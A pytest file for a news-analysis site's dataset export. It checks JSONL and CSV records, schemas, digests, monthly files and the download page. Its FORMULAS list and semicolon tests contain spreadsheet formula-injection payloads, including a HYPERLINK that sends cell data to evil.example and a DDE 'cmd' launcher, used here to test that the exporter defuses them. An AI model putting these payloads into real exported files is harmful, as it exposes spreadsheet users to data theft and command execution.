"""The data set: lines are records, rows are records, digests are right, and no cell is a formula."""

import csv
import hashlib
import io
import json
import re
import subprocess
from pathlib import Path

import pytest

from generator import schemas
from generator.models import DataRow, Story
from generator.pages import Catalog, data, downloads, rows, sheets
from tests.mixed import LARGE, SMALL, make_mixed
from tests.stories import make_story, numbered
from tests.test_pages_api import SCHEMAS, SITE, STORIES, WITHDRAWN, dated, written
from tests.test_site import HOSTILE, hostile

ATTACKS = tuple(hostile(number, text) for number, text in enumerate(HOSTILE))
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "'=1",
    "''@x",
    "＝1",  # noqa: RUF001 - the wide form is the point
)
PLAIN = ("a = b", "'quoted'", "x\ty", "1-2", "", "two\nlines", 'say "so", twice')


def words_of(cell: str) -> str:
    """Return the words of a cell by the rule on the data page."""
    return re.sub(rf"(^|;[\s\"]*)'(?='*[{''.join(rows.ACTIVE)}])", r"\1", cell)


def said(value: object) -> str:
    """Return a value of JSON as the table says it."""
    if value is None:
        return ""
    return str(value).lower() if isinstance(value, bool) else str(value)


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_each_line_is_the_record_of_a_report_oldest_first() -> None:
    files = written((*STORIES, *ATTACKS))
    shown = Catalog((*STORIES, *ATTACKS)).shown
    lines = files["data/stories.jsonl"].split("\n")

    assert lines.pop() == ""
    assert [json.loads(one) for one in lines] == [
        json.loads(files[f"{story.path}record.json"]) for story in reversed(shown)
    ]


def test_each_line_fits_the_schema_of_a_story() -> None:
    schema = SCHEMAS[f"{SITE.url}schemas/story.schema.json"]

    for line in written()["data/stories.jsonl"].splitlines():
        assert list(schema.iter_errors(json.loads(line))) == []


def test_a_line_is_a_line_for_every_reader() -> None:
    one = numbered(1, title="one\u2028two\u2029three\x85four")
    line = data.line(one)

    assert len(line.splitlines()) == 1
    assert json.loads(line)["original"]["title"] == "one\u2028two\u2029three\x85four"


def test_the_table_reads_back_as_the_records_say() -> None:
    stories = (*STORIES, *ATTACKS)
    shown = Catalog(stories).shown
    found = table(written(stories)["data/stories.csv"])
    wanted = [rows.row(story, SITE).model_dump(mode="json") for story in reversed(shown)]

    assert len(found) == len(shown) > 15
    for got, want in zip(found, wanted, strict=True):
        assert {key: words_of(cell) for key, cell in got.items()} == {key: said(value) for key, value in want.items()}


def test_a_row_says_what_the_record_says() -> None:
    story = make_story()
    record = story.model_dump(mode="json")
    found = rows.row(story, SITE).model_dump(mode="json")

    assert {key: found[key] for key in ("score", "primary", "secondary", "tactic", "quoted_score", "confidence")} == {
        key: record["verdict"][key] for key in ("score", "primary", "secondary", "tactic", "quoted_score", "confidence")
    }
    assert (found["band_low"], found["band_high"]) == tuple(record["verdict"]["band"].values())
    assert (found["title"], found["published"]) == (record["original"]["title"], record["original"]["published"])
    assert found["keywords"] == "strengths; night crossings; Sandle; Oxley"
    assert (found["claims"], found["loaded_terms"], found["omissions"], found["missing_voices"]) == (2, 6, 2, 2)
    assert found["disputed"] is False
    assert found["record_url"] == f"{SITE.url}{story.path}record.json"


def test_a_row_says_what_the_report_comes_from() -> None:
    alone, mixed = rows.row(make_story(), SITE), rows.row(make_mixed(), SITE)

    assert (alone.engine, alone.model, alone.repetition_basis) == ("embedded", None, "predicted")
    assert (mixed.engine, mixed.model, mixed.repetition_basis) == ("mixed", f"{SMALL}, {LARGE}", "measured")


@pytest.mark.parametrize("words", FORMULAS)
def test_words_of_strangers_are_no_formula_and_can_be_had_back(words: str) -> None:
    (row,) = table(written([numbered(1, title=words)])["data/stories.csv"])

    assert row["title"] == f"'{words}"
    assert words_of(row["title"]) == words


@pytest.mark.parametrize("words", ["New board;=cmd|' /C calc'!A0;", 'Now; "=1"', "a;'+1;-2", "one;  @SUM(1)"])
def test_no_formula_hides_behind_a_semicolon_where_some_spreadsheets_divide_cells(words: str) -> None:
    text = written([numbered(1, title=words)])["data/stories.csv"]
    (row,) = table(text)

    for delimiter in ",;":
        cells = [cell for line in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in line]
        assert not [cell for cell in cells if cell.strip().startswith(rows.ACTIVE)]
    assert words_of(row["title"]) == words


@pytest.mark.parametrize("words", PLAIN)
def test_harmless_words_stay_as_they_are(words: str) -> None:
    (row,) = table(written([numbered(1, title=words)])["data/stories.csv"])

    assert row["title"] == words == words_of(row["title"])


def test_lines_of_the_table_end_as_its_form_asks() -> None:
    text = written()["data/stories.csv"]

    assert text.count("\r\n") == 6
    assert "\n" not in text.replace("\r\n", "")
    assert text.split("\r\n")[0].split(",") == list(DataRow.model_fields)


@pytest.mark.parametrize("row", [*STORIES[:4], *ATTACKS], ids=lambda story: story.slug)
def test_each_row_fits_its_schema(row: Story) -> None:
    schema = SCHEMAS[f"{SITE.url}schemas/data-row.schema.json"]

    assert list(schema.iter_errors(rows.row(row, SITE).model_dump(mode="json"))) == []


def test_the_months_one_after_the_other_are_the_whole() -> None:
    stories = [*STORIES, *(dated(100 + n, "2026-11-03") for n in range(sheets.SHEET_MOST))]
    files = written(stories)
    pieces = [path for path in files if path.startswith("data/stories/")]
    lines = "".join(files[path] for path in pieces if path.endswith(".jsonl"))
    tables = "".join(files[path].removeprefix(rows.head()) for path in pieces if path.endswith(".csv"))

    assert [Path(path).stem for path in pieces if path.endswith(".csv")] == [
        "2025-12",
        "2026-10",
        "2026-11",
        "2026-11.2",
    ]
    assert lines == files["data/stories.jsonl"]
    assert rows.head() + tables == files["data/stories.csv"]


def test_every_digest_and_length_is_that_of_the_file() -> None:
    files = written((*STORIES, *ATTACKS))
    index = json.loads(files["data/index.json"])
    links = [*index["files"], *index["pages"]]

    assert list(SCHEMAS[index["$schema"]].iter_errors(index)) == []
    assert {one["href"].removeprefix(SITE.url) for one in links} | {
        "data/index.json", "data/SHA256SUMS", "data/LICENSE.txt",
    } == {path for path in files if path.startswith("data/")}  # fmt: skip
    for one in links:
        raw = files[one["href"].removeprefix(SITE.url)].encode()
        assert (one["size_bytes"], one["digest"]) == (len(raw), f"sha256:{hashlib.sha256(raw).hexdigest()}")


def test_sha256sum_accepts_the_sums(tmp_path: Path) -> None:
    for path, text in written().items():
        if path.startswith("data/"):
            file = tmp_path / path
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_bytes(text.encode())

    done = subprocess.run(
        ["sha256sum", "--check", "--strict", "SHA256SUMS"],  # noqa: S607 - whichever the machine has
        cwd=tmp_path / "data", capture_output=True, text=True, check=False,
    )  # fmt: skip

    assert done.returncode == 0, done.stderr
    assert done.stdout.count(": OK") == 2 * 3 + 2 + 2


def test_a_withdrawn_report_is_in_no_file() -> None:
    text = "".join(one for path, one in written().items() if path.startswith("data/"))

    assert WITHDRAWN.id not in text
    assert WITHDRAWN.path not in text


def test_every_quoted_field_named_in_the_license_is_one_of_the_record() -> None:
    schema = schemas.story_schema()
    known = {name for one in (schema, *schema["$defs"].values()) for name in one.get("properties", ())}
    named = [
        word.removesuffix("[]")
        for line in data.QUOTED
        for part in line.replace(" and ", ",").replace(":", ",").split(",")
        for word in part.strip().split(".")
    ]

    assert len(named) > 15
    assert [name for name in named if name not in known] == []


def test_a_long_file_comes_in_parts() -> None:
    known = Catalog([numbered(n) for n in range(20)])
    files = dict(data.DataSet(known, SITE).files())
    whole = files["data/stories.jsonl"]

    assert not isinstance(whole, str)
    assert max(map(len, whole)) < 10_000


@pytest.mark.parametrize(
    ("count", "words"),
    [(0, "0 bytes"), (999, "999 bytes"), (8_640, "8.6 kB"), (8_640_000, "8.6 MB"), (10**9, "1.0 GB")],
)
def test_a_size_is_told_for_readers(count: int, words: str) -> None:
    assert downloads.size(count) == words


def test_the_page_shows_what_the_files_are() -> None:
    dataset = data.DataSet(Catalog(STORIES), SITE)
    view = downloads.view(dataset)

    assert [month.name for month in view["months"]] == ["November 2026", "October 2026", "December 2025"]
    assert [one.file for one in view["whole"]] == ["stories.jsonl", "stories.csv"]
    assert view["whole"][0].digest == (dataset.whole[0].digest or "").removeprefix("sha256:")
    assert view["citation"] == (
        "Spin Reports: data, as of November 20, 2026. https://reports.example/project/data/. CC BY 4.0."
    )
    assert len(view["columns"]) == len(DataRow.model_fields)


def test_the_page_of_the_first_night_says_nothing_it_does_not_know() -> None:
    view = downloads.view(data.DataSet(Catalog([]), SITE))

    assert (view["count"], view["updated"], view["months"]) == (0, None, ())
    assert view["citation"] == "Spin Reports: data. https://reports.example/project/data/. CC BY 4.0."
